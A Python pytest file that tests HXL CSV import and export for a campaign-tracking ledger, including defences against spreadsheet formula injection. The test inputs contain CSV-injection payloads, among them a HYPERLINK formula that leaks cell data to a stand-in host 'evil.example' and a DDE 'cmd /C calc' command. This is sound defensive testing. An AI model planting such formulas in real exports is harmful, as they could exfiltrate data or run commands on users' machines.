"""HXL export and import, and cells kept safe for spreadsheets (OWASP "CSV Injection")."""

import csv
import io

import pytest

from corridor.coalition.hxl import normalise_tag, read_hxl, write_hxl
from corridor.errors import CorridorError
from corridor.textcheck import from_spreadsheet_safe, spreadsheet_safe

ROWS = [
    {"org": "Free Voice", "id": "fv-1", "title": "Evening news", "channel": "radio",
     "provinces": ["Ryanggang", "North Hamgyong"], "start": "2024-03-31", "end": "2024-10-26",
     "reached": 12000.0, "cost_usd": 5000.0, "spec": {"frequency_khz": 7510, "power_kw": 100}},
    {"org": "Sky Letters", "id": "sl-1", "title": "Spring launch", "channel": "balloon",
     "provinces": ["Kangwon"], "start": "2024-04-20T22:00:00+09:00", "spec": {"balloons": 10}},
]


def test_round_trip(tmp_path):
    path = write_hxl(ROWS, tmp_path / "ledger.csv")
    lines = path.read_text(encoding="utf-8").splitlines()
    assert lines[1].startswith("#org +name,#activity +id")
    back = read_hxl(path)
    assert [r["id"] for r in back] == ["fv-1", "sl-1"]
    assert back[0]["spec"] == {"frequency_khz": 7510, "power_kw": 100}
    assert back[0]["provinces"] == ["Ryanggang", "North Hamgyong"]
    assert back[0]["cost_usd"] == 5000.0
    assert back[1]["spec"] == {"balloons": 10}


def test_tags_are_normalised():
    assert normalise_tag("#Value+USD +cost") == "#value +cost +usd"


@pytest.mark.parametrize("text, message", [
    ("a,b\n1,2\n", "no HXL hashtag row"),
    ("#activity+id,#activity+id\nx,y\n", "twice"),
    ("#activity+id,#date+start\nx,2024-01-01\n", "missing the #sector +channel"),
    ("#activity+id,#sector+channel,#date+start,#value+cost+usd\nx,radio,2024-01-01,lots\n", "not a number"),
    ("#activity+id,#sector+channel,#date+start\nx,radio,2024-01-01,extra\n", "more values"),
])
def test_malformed_files_are_named(tmp_path, text, message):
    path = tmp_path / "bad.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(CorridorError) as err:
        read_hxl(path)
    assert message in str(err.value) and "bad.csv" in str(err.value)


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
                                  "@SUM(1+1)", "-2+3", "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1", "'=1+1",
                                  "''-1", "'\tx"])
def test_formula_like_text_is_quoted_and_read_back_as_it_was(text):
    safe = spreadsheet_safe(text)
    assert safe == "'" + text
    assert from_spreadsheet_safe(safe) == (text, True)


@pytest.mark.parametrize("value", ["Evening news", "'quoted", "2024-03-31", "", -2.5, 7510, True])
def test_other_cells_and_numbers_are_left_alone(value):
    assert spreadsheet_safe(value) == value
    if isinstance(value, str):
        assert from_spreadsheet_safe(value) == (value, False)


def test_export_has_no_formula_cell_and_keeps_numbers(tmp_path):
    rows = [dict(ROWS[0], title="=1+1", id="-7", org="@org", spec={"frequency_khz": -5, "station": "+x",
                                                                    "note": "a\rb", "days": ["=a"]})]
    path = write_hxl(rows, tmp_path / "out.csv")
    raw = path.read_bytes().decode("utf-8")
    cells = [c for row in csv.reader(io.StringIO(raw, newline="")) for c in row]
    # Only the number starts with a sign: it stays a number. A lone CR is quoted (RFC 4180).
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == ["-5"]
    assert '"a\rb"' in raw
    back = read_hxl(path)[0]
    assert (back["title"], back["id"], back["org"]) == ("=1+1", "-7", "@org")
    assert back["spec"] == {"frequency_khz": -5, "station": "+x", "note": "a\rb", "days": ["=a"]}


def test_a_quoted_number_in_a_spec_stays_text(tmp_path):
    path = write_hxl([dict(ROWS[1], spec={"label": "-12"})], tmp_path / "out.csv")
    assert read_hxl(path)[0]["spec"] == {"label": "-12"}


def test_an_import_validates_each_row_once_and_refuses_a_repeated_id(engine, coalition, tmp_path, monkeypatch):
    from corridor.access.rules import Actor, Role
    from corridor.coalition import exchange, ledger
    from corridor.store import session_scope

    org_id = coalition[("Free Voice", Role.EDITOR)][1]
    actor = Actor(1, {org_id: Role.EDITOR})
    ls = {"lon": 126.70, "lat": 37.90, "sound_power_db": 160}
    rows = [{"id": f"r-{i}", "channel": "loudspeaker", "start": "2024-06-01T22:00:00Z", "spec": ls, "_row": i + 3}
            for i in range(4)]
    calls = []
    checked = ledger._validated
    monkeypatch.setattr(ledger, "_validated", lambda *a, **kw: calls.append(1) or checked(*a, **kw))
    with session_scope(engine) as s:
        assert exchange.import_rows(s, actor, org_id, rows, source="in.csv") == {"activities": 4, "campaigns": 1}
    assert len(calls) == 4
    with pytest.raises(CorridorError) as err, session_scope(engine) as s:
        exchange.import_rows(s, actor, org_id, [dict(rows[0], id="new", _row=3), dict(rows[1], id="new", _row=4)],
                             source="again.csv")
    assert "again.csv row 4" in str(err.value) and "row 3 of the file" in str(err.value)
    with pytest.raises(CorridorError) as err, session_scope(engine) as s:
        exchange.import_rows(s, actor, org_id, rows[:1], source="/home/someone/files/again.csv")
    assert "exists in your organisation" in str(err.value)
    with session_scope(engine) as s:
        exchange.import_rows(s, actor, org_id, [dict(rows[0], id="fresh")], source="/home/someone/files/x.csv")
        names = [c.name for c in ledger.visible_campaigns(s, actor)]
    assert "Imported loudspeaker (x.csv)" in names and not any("/home" in n for n in names)
